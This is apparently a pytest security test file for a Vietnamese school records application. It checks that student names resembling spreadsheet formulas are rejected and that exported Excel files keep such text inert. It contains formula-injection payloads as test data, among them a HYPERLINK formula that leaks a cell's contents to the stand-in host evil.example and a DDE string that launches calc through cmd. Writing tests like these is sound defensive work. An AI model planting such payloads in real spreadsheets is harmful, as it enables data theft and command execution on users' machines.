"""Issue 21, formula injection (item 6): a name is never a formula; exported text cells are inert.

The exported workbooks are checked twice: with openpyxl (no formula cell anywhere) and by LibreOffice
itself (headless conversion to CSV: a live `=2+3` would come out as 5).
"""

from __future__ import annotations

import csv
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from hocbaso_desktop.domain.errors import InvalidInputError
from hocbaso_desktop.domain.model import PartialDate, Sex, Student
from hocbaso_desktop.services import students as students_service
from hocbaso_desktop.storage import school_repo
from tests.security.i21_helpers import hocbaso, no_traceback

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C3,"Bấm vào đây")'


def test_cli_refuses_a_formula_as_a_name(demo_school, admin_db):
    before = admin_db.query_one("SELECT count(*) FROM students")[0]
    result = hocbaso("students", "add", "--db", str(demo_school.path), "--class", "3A", "--name", HYPERLINK,
                     "--sex", "nam", "--birth", "01/02/2018", user="hocvu")
    no_traceback(result)
    assert result.returncode == 3 and "Họ và tên" in result.stderr
    assert admin_db.query_one("SELECT count(*) FROM students")[0] == before


@pytest.mark.parametrize("name", [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "Nguyễn Văn 1",
                                  "Lê Thị <b>Hoa</b>", "Trần\x00An"])
def test_every_entry_path_refuses_the_same_names(session_as, name):
    session = session_as("hocvu")
    db = session.db
    school_class = school_repo.list_classes(db, school_repo.latest_year(db))[0]
    with pytest.raises(InvalidInputError):
        students_service.add_student(session, school_class, Student("", name, Sex.FEMALE, PartialDate(2018, 1, 2)))
    # below the screen and the command: Excel, JSON and transfers all store through the same guard
    with pytest.raises(InvalidInputError), db.transaction():
        school_repo.add_students(db, [Student("x-1", name, Sex.FEMALE, PartialDate(2018, 1, 2))])
    with pytest.raises(InvalidInputError), db.transaction():
        school_repo.add_students(db, [Student("x-2", "Lê Thị Hoa", Sex.FEMALE, PartialDate(2018, 1, 2),
                                              father_name=name)])


def test_real_names_are_accepted(session_as):
    session = session_as("hocvu")
    db = session.db
    school_class = school_repo.list_classes(db, school_repo.latest_year(db))[0]
    for name in ("H'Hen Niê", "Nguyễn Thị Lan-Anh", "Y Mơ Byă", "Lò Văn Ót"):
        added = students_service.add_student(session, school_class, Student("", name, Sex.FEMALE,
                                                                          PartialDate(2018, 1, 2))).value
        assert added.full_name == name


def _plant(db, student_id: str) -> None:
    """Text written before this version (or by another program): a formula in a name and an address."""
    db.execute("UPDATE students SET full_name = ?, residence = ?, birthplace = ? WHERE id = ?",
               (HYPERLINK, "=2+3", "@SUM(2,3)", student_id))


def _cells(path):
    book = load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _libreoffice_text(path, tmp_path) -> str:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    out = tmp_path / "lo"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to",
                    "csv", "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=180)
    with open(out / (path.stem + ".csv"), encoding="utf-8", errors="replace") as fh:
        return "\n".join(",".join(row) for row in csv.reader(fh))


def test_exports_write_text_as_text(demo_school, admin_db, tmp_path):
    year = school_repo.latest_year(admin_db)
    school_class = school_repo.find_class(admin_db, year, "3A")
    target = school_repo.students_in_class(admin_db, school_class.id)[0]
    _plant(admin_db, target.id)
    template = tmp_path / "mau.xlsx"
    export = tmp_path / "xuat.xlsx"
    for args in (("template", "--kind", "students", "--class", "3A", "--out", str(template)),
                 ("export-data", "--format", "xlsx", "--out", str(export))):
        result = hocbaso(*args, "--db", str(demo_school.path), user="hieutruong" if args[0] == "export-data"
                         else "hocvu")
        no_traceback(result)
        assert result.returncode == 0, result.stderr
    for path in (template, export):
        cells = _cells(path)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells}
        assert "'" + HYPERLINK in texts and "'=2+3" in texts and "'@SUM(2,3)" in texts
    shown = _libreoffice_text(template, tmp_path)
    assert "=2+3" in shown and "HYPERLINK" in shown


def test_a_guarded_cell_reads_back_as_the_same_text(demo_school, admin_db, tmp_path):
    """The importer removes the guard again: a template round trip changes no address."""
    year = school_repo.latest_year(admin_db)
    school_class = school_repo.find_class(admin_db, year, "3A")
    target = school_repo.students_in_class(admin_db, school_class.id)[0]
    admin_db.execute("UPDATE students SET residence = ? WHERE id = ?", ("-Thôn 3, xã Yên Bình", target.id))
    template = tmp_path / "mau.xlsx"
    args = ("--db", str(demo_school.path))
    assert hocbaso("template", "--kind", "students", "--class", "3A", "--out", str(template), *args,
                   user="hocvu").returncode == 0
    result = hocbaso("import", "--dry-run", str(template), *args, user="hocvu")
    assert result.returncode == 0 and "Cập nhật" not in result.stdout, result.stdout
